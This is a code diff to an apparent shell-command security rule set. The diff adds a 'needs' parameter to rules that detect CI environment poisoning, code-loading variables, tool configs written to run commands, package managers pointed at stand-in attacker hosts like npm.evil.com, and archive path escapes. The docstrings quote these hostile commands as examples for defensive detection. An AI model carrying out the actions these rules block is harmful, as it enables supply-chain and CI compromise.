@@ -693,7 +693,7 @@ def _ci_facts(ctx: Context) -> tuple[str | None, str | None]:
 
 
 @rule("block.shell.ci-env-poisoning", "a CI runner's later steps handed a variable that runs code", risk=Risk.CRITICAL,
-      types=("shell", "type"))
+      types=("shell", "type"), needs="line")
 def ci_env_poisoning(ctx: Context) -> CheckResult:
     """A line written to the files a CI runner reads its later steps' environment from (`$GITHUB_ENV`,
     `$GITHUB_PATH`, CircleCI's `$BASH_ENV`; Azure's `##vso[task.setvariable]`/`##vso[task.prependpath]`, the old
@@ -704,7 +704,7 @@ def ci_env_poisoning(ctx: Context) -> CheckResult:
 
 
 @rule("confirm.shell.ci-env-hook", "a CI runner's later steps handed a variable that loads code", risk=Risk.HIGH,
-      types=("shell", "type"))
+      types=("shell", "type"), needs="line")
 def ci_env_hook(ctx: Context) -> CheckResult:
     """The same files given a code-loading variable of any other value (`NODE_OPTIONS=--require ./hook.js`,
     `LD_LIBRARY_PATH=/opt/x`), or code appended to `$BASH_ENV` that the shell rules ask about. Plain variables
@@ -754,7 +754,7 @@ def _shell_config(ctx: Context) -> tuple[str | None, str | None]:
 
 
 @rule("block.shell.tool-config", "a tool's settings written from the shell to run what the shell rules block",
-      risk=Risk.CRITICAL, types=("shell", "type"))
+      risk=Risk.CRITICAL, types=("shell", "type"), needs="line")
 def shell_tool_config_block(ctx: Context) -> CheckResult:
     """`echo`, `printf`, `tee` or a here-document writing a developer tool's settings (`.npmrc`, `.yarnrc.yml`,
     `.pre-commit-config.yaml`, a Terraform file, `.cargo/config.toml`, `requirements.txt`...) with a command the
@@ -763,7 +763,7 @@ def shell_tool_config_block(ctx: Context) -> CheckResult:
 
 
 @rule("confirm.shell.tool-config", "a tool's settings written from the shell to run a command or fetch elsewhere",
-      risk=Risk.HIGH, types=("shell", "type"))
+      risk=Risk.HIGH, types=("shell", "type"), needs="line")
 def shell_tool_config(ctx: Context) -> CheckResult:
     """The same shell writes of settings that make a tool run a command or load code at its next run, or take its
     packages from a host other than the ecosystem's own (`confirm.files.tool-runs-command`)."""
@@ -802,7 +802,7 @@ def _hostile_manager_source(ctx: Context) -> str | None:
 
 
 @rule("block.shell.hostile-package-source", "a package manager pointed at a hostile host", risk=Risk.CRITICAL,
-      types=("shell", "type"))
+      types=("shell", "type"), needs="address")
 def hostile_manager_source(ctx: Context) -> CheckResult:
     """A package manager's registry or index set, or an install run, against a host named as an attacker's
     (`npm config set registry https://npm.evil.com/`, `pip install -i https://attacker.example/simple x`, `yarn
@@ -845,7 +845,7 @@ def _archive_escape(ctx: Context) -> str | None:
 
 
 @rule("confirm.shell.archive-escape", "an archive extracted with its paths allowed outside the folder",
-      risk=Risk.HIGH, types=("shell", "type"))
+      risk=Risk.HIGH, types=("shell", "type"), needs="line")
 def archive_escape(ctx: Context) -> CheckResult:
     """An archive extracted with the switch that keeps absolute member names and `..` (tar `-P`/`--absolute-names`,
     bsdtar `-P`, `unzip -:`, `7z x -spf`): a crafted archive then writes a shell startup file, a key or a program on
